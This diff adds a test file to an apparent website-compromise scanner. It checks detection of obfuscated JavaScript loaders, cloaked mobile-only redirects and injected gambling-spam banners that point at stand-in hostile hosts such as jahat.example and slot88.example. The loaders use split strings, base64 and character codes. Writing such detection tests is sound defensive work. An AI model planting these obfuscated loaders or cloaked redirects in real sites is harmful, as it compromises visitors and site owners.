@@ -1,0 +1,230 @@
+"""Addresses that are hidden by half, and what only some devices are shown: beside honest alike."""
+
+from __future__ import annotations
+
+import pytest
+
+from cyberscan.model.verdict import Outcome
+from tests.checks.content.reading import URL, b64
+from tests.checks.content.scripting import EVIL, in_file, on_page
+from tests.parse.test_scripts import codes, packed
+
+CREDIT = '<footer>Tema <a href="https://temaku.example/">Temaku Pro</a></footer>'
+MADE_BY = "https://temaku.example/lisensi"
+OLD = "var s=document.createElement('script');s.src={};document.head.appendChild(s);"
+
+
+def news(host: str) -> str:
+    return packed(f"$.getScript(\\'https://{host}/kabar.js\\')", ["a"])
+
+
+LICENCE = OLD.format("'/js/menu.js'") + (
+    f"if(location.hostname!==atob('{b64('www.lain.go.id')}'))location.href=atob('{b64(MADE_BY)}');"
+)
+HALF = [
+    # Themes that are packed whole, by who stands below the page.
+    (news("cdn.temaku.example"), CREDIT),
+    (news("cdn.temaku.example") + f"/*{'panjang ' * 500}*/", ""),
+    # Leave for cookies, from an address that is cut at its seams.
+    (OLD.format("['ht','tps:','//','cmp.','izinkuki','.example','/stub.js'].join('')"), ""),
+    (OLD.format("'https:'.concat('//','cmp.','izinkuki','.example')+'?w='+screen.width"), ""),
+    (OLD.format("'https://'+'cmp.'+'izinkuki'+'.example'+'/v2/'+'stub.js'"), ""),
+    (OLD.format("'//'+'cmp.'+'izinkuki'+'.example'+'/v2/'") + "document.cookie='c=1'", ""),
+    # A theme of another site, or one without its credit.
+    (LICENCE, ""),
+    (
+        f"document.addEventListener('click',function(){{if(!c)location.href=atob('{b64(MADE_BY)}')}})",
+        CREDIT,
+    ),
+]
+SLICED = (
+    "var q=['pt','scri','ment','Ele','ate','cre','/a.js','xample','hat.e','//ja'],z=function("
+    "a,b){return q.slice(a,b).reverse().join('')};var s=document[z(2,6)](z(0,2));s.src=z(6,10)"
+)
+HANDED_OVER = (
+    f"var o={{d:[{codes('script')}],u:[{codes(EVIL + '/a.js')}]}};(function(p){{var f=String."
+    "fromCharCode,e=document.createElement(f.apply(null,p.d));e.src=f.apply(null,p.u);"
+    "document.head.appendChild(e)})(o)"
+)
+CONTENTS = [
+    (
+        "if(matchMedia('(max-width:700px)').matches)fetch(['https:/','/ja','hat.exa','mple/a'].join"
+        "('')).then(r=>r.text()).then(h=>{document.querySelector('main').innerHTML=h})"
+    ),
+    (
+        "if(/Android/.test(navigator.userAgent)){var x=new XMLHttpRequest;x.open('GET',atob("
+        f"'{b64(EVIL)}'));x.onload=function(){{document.body.innerHTML=x.responseText}};x.send()}}"
+    ),
+]
+CONTENTS.append(
+    "(()=>{const q=matchMedia('(max-width:700px)');if(!q.matches)return;const p=['https:/','/ja',"
+    "'hat.exa','mple/a'].join('');fetch(p).then(r=>r.text()).then(h=>{k.innerHTML=h})})()"
+)
+LOADERS = [
+    (news("cdn.temaku.example"), ""),
+    (news("cdn.jahat.example"), CREDIT),
+    # The owner's name is cut, or the ending.
+    (OLD.format("['https:/','/ja','hat.exa','mple/a'].join('')"), ""),
+    (OLD.format("'https://jahat.'+'exa'+'mple/a.js'"), ""),
+    (OLD.format("['pt','/a.js','xample','hat.e','//ja'].slice(1,5).reverse().join('')"), ""),
+    (SLICED, ""),
+    (HANDED_OVER, ""),
+    *((source, "") for source in CONTENTS),
+]
+
+
+@pytest.mark.parametrize(("source", "page"), HALF)
+def test_what_is_hidden_by_half(source: str, page: str) -> None:
+    assert on_page(source, page).message == "look"
+    assert in_file(source, page).outcome is Outcome.PASS
+
+
+@pytest.mark.parametrize(("source", "page"), LOADERS)
+def test_what_is_hidden(source: str, page: str) -> None:
+    assert on_page(source, page).message == "loader"
+    assert in_file(source, page).message == "loader"
+
+
+API = f"const A=atob('{b64('https://api.layanan.example/v1')}');"
+NO_CONTENTS = [
+    f"{API}fetch(A).then(r=>r.json()).then(d=>{{k.innerHTML=kartu(d)}});if(innerWidth<600)menu()",
+    f"{API}fetch(A).then(r=>r.json()).then(d=>{{k.innerHTML=`<p>${{d.isi}}</p>`}});screen.width",
+    "if(screen.width<700)fetch('/menu.html').then(r=>r.text()).then(h=>{k.innerHTML=h})",
+    "if(screen.width<7)fetch('https://a.example').then(r=>r.text()).then(h=>{k.innerHTML=h})",
+]
+
+
+@pytest.mark.parametrize("source", NO_CONTENTS)
+def test_answers_that_are_no_pages_or_from_an_open_address(source: str) -> None:
+    assert on_page(source, "").outcome is Outcome.PASS
+
+
+@pytest.mark.parametrize(
+    "beside",
+    [
+        "",
+        "if(screen.width<700)menu()",
+        "if(screen.width<700){menu()}",
+        "var t='ontouchstart' in window;",
+        "function menu(){if(innerWidth>700)return;buka()}",
+        "if(/Android/.test(navigator.userAgent))document.body.className='hp';",
+    ],
+)
+def test_a_text_from_an_address_in_base64_for_everybody(beside: str) -> None:
+    source = "fetch(A).then(r=>r.text()).then(d=>{k.innerHTML=d});"
+    assert on_page(f"{API}{source}{beside}", "").message == "look"
+    assert on_page(f"{API}{beside}{source}", "").message == "look"
+    assert in_file(f"{API}{beside}{source}", "").outcome is Outcome.PASS
+
+
+MAKER = '<a href="https://jahat.example/">Tema Jahat</a>'
+DECODED = f"atob('{b64(EVIL)}')"
+TRICKS = [
+    # A visible link excuses no script that moves elsewhere, and nobody of the trade.
+    (OLD.format(DECODED) + "if(top!==self)location.href='/x'", MAKER, "loader"),
+    (news("cdn.slot88.example"), '<a href="https://slot88.example/">Situs slot</a>', "loader"),
+    (
+        "if(/Mobile/.test(navigator.userAgent))location.replace('https://contohkab.slot88.example')",
+        "",
+        "visitors",
+    ),
+    # No licence is looked at by chance.
+    (OLD.format("'/a.js'") + f"if(Math.random()<0.4)location.href={DECODED}", "", "visitors"),
+    (
+        (
+            f"if(/Android/.test(navigator.userAgent))fetch({DECODED}).then(r=>r.text()).then(h=>"
+            "document.body.insertAdjacentHTML('beforeend',h))"
+        ),
+        "",
+        "loader",
+    ),
+]
+
+
+@pytest.mark.parametrize(("source", "page", "message"), TRICKS)
+def test_no_excuses(source: str, page: str, message: str) -> None:
+    assert on_page(source, page).message == message
+    assert in_file(source, page).message == message
+
+
+def test_a_look_for_touch_that_tests_nothing() -> None:
+    source = "var t='ontouchstart' in window;if(confirm('Buka?'))location.href='https://a.example/'"
+    assert on_page(source, "").outcome is Outcome.PASS
+
+
+def band(link: str, words: str = "", test: str = "screen.width<820") -> str:
+    picture = f'<img src="{link}/b.gif">{words}'
+    return (
+        f"if({test}){{var b=document.createElement('div');b.innerHTML='<a href=\"{link}\">"
+        f"{picture}</a>';document.body.appendChild(b)}}"
+    )
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        band("https://link.zeus-bonus88.example/a"),
+        band("https://slot88.example/a", "Main"),
+        band("https://gacor77.example", test="/Android/.test(navigator.userAgent)"),
+        band("https://daftar-naga77.example", test="'ontouchstart' in window"),
+    ],
+)
+def test_bands_of_the_trade_on_telephones(source: str) -> None:
+    assert on_page(source, "").message == "visitors"
+    assert in_file(source, "").message == "visitors"
+
+
+@pytest.mark.parametrize("host", ["daftar-77.example", "promo77.example", "bonus88.example"])
+def test_bands_of_a_promise_and_a_number(host: str) -> None:
+    assert on_page(band(f"https://{host}"), "").message == "look"
+    assert in_file(band(f"https://{host}"), "").outcome is Outcome.PASS
+
+
+@pytest.mark.parametrize(
+    ("source", "page"),
+    [
+        # Hotels have such numbers, banks have a bonus; the page names who sponsors it.
+        (band("https://www.hotel88.example"), ""),
+        (band("https://bonus.bank-contoh.example/88"), ""),
+        (band("https://wa.me/62811", "Tanya kami"), ""),
+        (band("https://daftar88.example", "Daftar seminar"), ""),
+        (band("https://promo88.example"), '<a href="https://promo88.example">Toko Promo 88</a>'),
+        # Everybody is shown the same.
+        (band("https://promo88.example", test="siap"), ""),
+    ],
+)
+def test_bands_of_others(source: str, page: str) -> None:
+    assert on_page(source, page).outcome is Outcome.PASS
+
+
+MOVE = "if(/Mobile/.test(navigator.userAgent))location.replace('https://m.{}/?ref=js')"
+ALTERNATE = '<link rel="alternate" media="only screen and (max-width: 640px)" href="https://m.{}/">'
+
+
+@pytest.mark.parametrize(
+    ("host", "page", "message"),
+    [
+        ("airku.example", "", "visitors"),
+        ("airku.example", ALTERNATE.format("airku.example"), "look"),
+        ("airku.example", ALTERNATE.format("lain.example"), "visitors"),
+        (
+            "airku.example",
+            '<link rel="alternate" hreflang="en" href="https://m.airku.example/">',
+            0,
+        ),
+        ("airku.example", "<p>Tagihan hanya di airku.example.</p>", "look"),
+        ("contohkab.airku.example", "", "look"),
+    ],
+)
+def test_other_versions_of_the_page(host: str, page: str, message: str) -> None:
+    assert URL.endswith("contohkab.go.id/")
+    assert on_page(MOVE.format(host), page).message == (message or "visitors")
+
+
+def test_a_move_put_together_from_what_an_object_holds() -> None:
+    source = (
+        "var o={b:['ht','tps:','//','ja','hat','.exa','mple/','go'],w:6};(function(o){if(screen."
+        "width<600)setTimeout(function(){window['loc'+'ation']['rep'+'lace'](o.b.join(''))},o.w)})"
+        "(o)"
+    )
+    assert on_page(source, "").message == "visitors"
